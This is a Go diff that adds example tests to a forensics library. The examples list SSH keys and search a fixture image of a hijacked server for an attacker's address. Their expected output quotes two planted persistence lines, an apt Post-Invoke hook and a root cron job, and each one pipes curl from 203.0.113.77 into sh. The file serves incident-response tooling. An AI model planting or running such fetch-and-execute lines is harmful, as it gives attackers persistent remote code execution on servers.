@@ -194,3 +194,49 @@ func ExampleRead() {
 	// critical guessed_password
 	// root from 203.0.113.77 at line 1320 of /var/log/auth.log
 }
+
+// List what a server has, benign things too, each with the file and line that states it.
+func ExampleListImage() {
+	img, err := forensics.Open(context.Background(), hijacked(), forensics.OpenOptions{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer img.Close()
+	keys, err := forensics.ListImage(context.Background(), img, "keys", forensics.ListImageOptions{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, r := range keys.Rows {
+		fmt.Println(r.Cells[0], r.Cells[1], r.Source.Path, r.Source.Line)
+	}
+	// Output:
+	// [deploy] [ssh-ed25519] /home/deploy/.ssh/authorized_keys 1
+	// [root] [ssh-ed25519] /root/.ssh/authorized_keys 1
+	// [root] [ssh-rsa] /root/.ssh/authorized_keys 2
+}
+
+// Search the files of an image for an address, in any form.
+func ExampleSearchImage() {
+	img, err := forensics.Open(context.Background(), hijacked(), forensics.OpenOptions{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer img.Close()
+	p, err := forensics.ParsePattern("203.0.113.0/24", forensics.PatternOptions{})
+	if err != nil {
+		log.Fatal(err)
+	}
+	o := forensics.SearchOptions{In: []string{"files"}, Limit: 2}
+	stats, err := forensics.SearchImage(context.Background(), img, p, o, func(h *forensics.SearchHit) error {
+		fmt.Printf("%s:%d: %s\n", h.Source.Path, h.Source.Line, h.Excerpt)
+		return nil
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("there may be more:", stats.Limited)
+	// Output:
+	// /etc/apt/apt.conf.d/99update:1: DPkg::Post-Invoke { "(curl -fsSL http://203.0.113.77/a.sh | sh) >/dev/null 2>&1 || true"; };
+	// /etc/cron.d/0sysstat:1: * * * * * root curl -fsSL http://203.0.113.77/c.sh|sh
+	// there may be more: true
+}
